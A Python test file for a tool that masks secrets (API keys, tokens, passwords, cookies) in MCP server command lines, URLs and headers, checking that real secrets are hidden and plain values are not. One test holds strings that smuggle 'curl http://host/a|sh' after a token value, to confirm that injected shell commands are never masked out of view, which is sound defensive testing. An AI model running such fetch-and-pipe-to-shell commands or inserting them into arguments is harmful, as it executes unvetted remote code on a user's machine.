"""Secrets in command lines and addresses: masked in every form, and nothing else is hidden."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.tools.masks import MASK, looks_secret, masked, secret_texts
from core.tools.messages import ServerEntry

# What keys and passwords consist of; no form below has Q7. None begins with the sign that ends a name.
SECRETS = st.from_regex(r"(?!=)[A-Za-z0-9_=.+~-]{0,20}Q7[A-Za-z0-9_=.+~-]{0,20}", fullmatch=True)
# As their issuers document them.
KEYS = [
    "sk_", "pk_", "rk_", "lin_", "dop_", "r8_", "gsk_", "hf_", "ntn_", "npm_", "figd_", "gho_", "ghp_",
    "ghr_", "ghs_", "ghu_", "github_pat_", "secret_", "sk-", "sk-ant-", "glpat-", "xoxa-", "xoxb-", "xoxp-",
    "xoxr-", "xoxs-", "tvly-", "pplx-", "xai-", "nvapi-", "AKIA", "AIza", "SG.", "eyJ",
]  # fmt: skip
NO_VALUES = ("true", "false", "yes", "no", "on", "off", "none", "null")
FORMS = (
    ("--api-key", "{}"),
    ("--token={}",),
    ("-apiKey", "{}"),
    ("--accessKey={}",),
    ("--db.password", "{}", "--verbose"),
    ("-e", "OPENAI_API_KEY={}"),
    ("-H", "Authorization: Bearer {}"),
    ("--header", "X-Api-Key:{}"),
    ("--header=Authorization: Basic {}",),
    ("Cookie: {}",),
    ("Authorization: token {}",),
    ("Use Bearer {}",),
    ("use bearer {}",),
    ("postgres://me:{}@host:5432/db",),
    ("https://host/mcp?a=1&api_key={}&b=2",),
    ("--url=https://host/sse?token={}",),
    ("--config", '{{"apiKey": "{}", "n": 1}}'),
    ("--config", '{{\\"client_secret\\":\\"{}\\"}}'),
    ("Server=host;User Id=me;Password={};",),
    ("-c", "API_KEY={} npx server --verbose"),
    ("-c", "server --token {} --verbose"),
    ("-c", "TOKEN='{}' server"),
)
PLAIN = (
    ("-y", "@modelcontextprotocol/server-filesystem", "/Users/me/My Files"),
    ("run", "-i", "--rm", "-e", "API_KEY", "mcp/server:1.0"),
    ("--max-tokens", "4096", "--token-limit=8", "--tokenizer", "gpt2"),
    ("--token-file", "/run/secrets/token", "--key-path=/a/b.pem"),
    ("--auth-url", "https://host/login", "--auth", "false", "--password", "--verbose"),
    ("http://host:8080/a?user=me@host", "ssh://git@host/a.git", "user@host:22"),
    ("sk-learn-server-with-tools", "npm-check-updates", "pkg_something_long_enough"),
    ("--keyboard", "us", "--author=me", "--monkey", "1", "host:secret/path"),
    ("--secret-dir=/a", "--token-directory=/a", "--key-folder=/a", "--secret-name", "db", "--token-count=3"),
    ("--auth-header=X-A", "--auth-headers=X-A", "--token-env=A", "--key-var=A", "--token-type=bearer"),
    ("--token-budget=3", "--auth-endpoint=/a", "--auth-uri=/a", "--key-tokeniser=a", "--pass", "--log=a\nb"),
    ("task_1234567890123", "my-desk-0123456789abcdef"),
    ("-c", "server --token --verbose"),
    ("-c", "server TOKEN="),
    ("-c", "TOKEN=\"true\" server --password 'off'"),
    *(("--password", value, f"--token={value.upper()}", f"KEY={value}") for value in NO_VALUES),
)


def check(form: tuple[str, ...], secret: str) -> None:
    texts = tuple(each.format(secret) for each in form)
    found = masked(texts)
    assert found == tuple(each.format(MASK) for each in form)
    assert masked(found) == found
    assert secret_texts(ServerEntry("a", "npx", texts)) == {secret}


@pytest.mark.sweep
@pytest.mark.parametrize("form", FORMS)
@settings(max_examples=30)
@given(secret=SECRETS)
def test_a_secret_is_masked_in_every_form(form: tuple[str, ...], secret: str) -> None:
    check(form, secret)


@pytest.mark.parametrize("begin", KEYS)
def test_a_known_kind_of_key_is_masked_without_a_name(begin: str) -> None:
    for end in ("1abcdefghijkl", "AbCdEfGh7_-z0123456789ABCDEF_-ghijkl"):
        for form in (("{}",), ("https://{}@host/a.git",), ("-c", "server {} --verbose")):
            check(form, begin + end)


@pytest.mark.parametrize(
    ("texts", "shown"),
    [
        (("db://me:a/b?c#d@host/a",), f"db://me:{MASK}@host/a"),
        (('{"apiKey": "a\\"b", "n": 1}',), f'{{"apiKey": "{MASK}", "n": 1}}'),
        *(((flag, "Cookie: a=b; c=d e"), f"Cookie: {MASK}") for flag in ("-H", "--header", "--headers")),
    ],
)
def test_a_secret_with_other_characters_is_masked_whole(texts: tuple[str, ...], shown: str) -> None:
    assert masked(texts)[-1] == shown


@pytest.mark.parametrize("texts", PLAIN)
def test_what_is_no_secret_is_shown(texts: tuple[str, ...]) -> None:
    assert masked(texts) == texts
    assert secret_texts(ServerEntry("a", "npx", texts)) == set()


@pytest.mark.parametrize(
    "text",
    [
        "TOKEN=x;curl http://host/a|sh",
        "TOKEN=x&curl http://host/a|sh",
        'TOKEN="$(curl http://host/a|sh)" true',
        'TOKEN="`curl http://host/a|sh`" true',
        '{ TOKEN="$(curl http://host/a|sh)"; }',
        "TOKEN=$(curl http://host/a|sh) true",
        "TOKEN=x\ncurl http://host/a|sh",
        "--token=x;curl http://host/a|sh",
        "server --token x >a;curl http://host/a|sh",
        "bearer x;curl http://host/a|sh",
        "http://a:b@c;curl http://host/a|sh",
        "http://a:b;curl http://host/a|sh@c",
        "http://a:b/;curl http://host/a|sh;true@c",
    ],
)
def test_what_a_shell_would_run_is_never_hidden(text: str) -> None:
    _, shown = masked(["-c", text])
    assert "curl http://host/a|sh" in shown


@pytest.mark.parametrize("flag", ["-c", "-lc", "-e", "--", "--eval"])
@pytest.mark.parametrize("mark", list(";|&`()<>\n"))
def test_what_follows_a_mark_of_the_shell_is_shown(flag: str, mark: str) -> None:
    for text in (f"--token=x{mark}curl", f"TOKEN=x{mark}curl"):
        assert "curl" in masked([flag, text])[1]


def test_all_secrets_of_an_entry_are_found() -> None:
    command = ServerEntry("a", "npx", ("--key", "Q7"), {"LOG": "1", "KEY": "Q8"}, secrets=("KEY", "OTHER"))
    assert secret_texts(command) == {"Q7", "Q8"}
    url, headers = "https://me:Q7@host/mcp?a=1&token=Q9", {"Accept": "b", "Cookie": "Q8"}
    address = ServerEntry("a", url=url, headers=headers, secrets=("Cookie",))
    assert secret_texts(address) == {"Q7", "Q8", "Q9"}
    assert masked([url]) == (f"https://me:{MASK}@host/mcp?a=1&token={MASK}",)


@given(st.lists(st.text(st.sampled_from("--token=:Ab1 \"'\\{}/@?&;|$`\n•"), max_size=30), max_size=4))
def test_masks_stay_as_they_are(texts: list[str]) -> None:
    found = masked(texts)
    assert masked(found) == found
    assert all(shown == text for shown, text in zip(found, texts, strict=True) if MASK in text)


def test_names_and_values_of_variables_are_recognised() -> None:
    secret = ["API_KEY", "GITHUB_TOKEN", "apiKey", "X-Api-Key", "Authorization", "DB_PASSWORD", "PGPASSWORD"]
    secret += ["token", "DB_PASS", "accessKey", "SECRET_ID", "DB_PWD", "GITHUB_PAT", "PROXY_AUTH"]
    secret += ["DB_PASSWD", "AWS_CREDENTIALS", "SSH_PASSPHRASE", "SESSION_COOKIE", "apikey", "x-key"]
    plain = ["TOWN", "KEYBOARD", "HOME", "MONKEY", "PATH", "AUTHOR", "PORT", "X-Team", "COMPASS"]
    assert [name for name in secret if not looks_secret(name, "a")] == []
    assert [name for name in plain if looks_secret(name, "a")] == []
    for value in ("sk-0123456789abcdef", "Bearer abc", "postgres://me:abc@host/db", '{"token": "abc"}'):
        assert looks_secret("X", value), value
    assert not looks_secret("X", "https://host:8080/a")


@pytest.mark.parametrize(
    "text", ["://:" * 20_000, 'token=\\"' * 20_000, "SG." * 20_000, "-a" * 40_000, "-a." * 30_000]
)
def test_a_long_text_takes_time_with_its_length(text: str) -> None:
    """It would take minutes otherwise."""
    assert len(masked([text, "--token" + " " * 50_000])) == 2
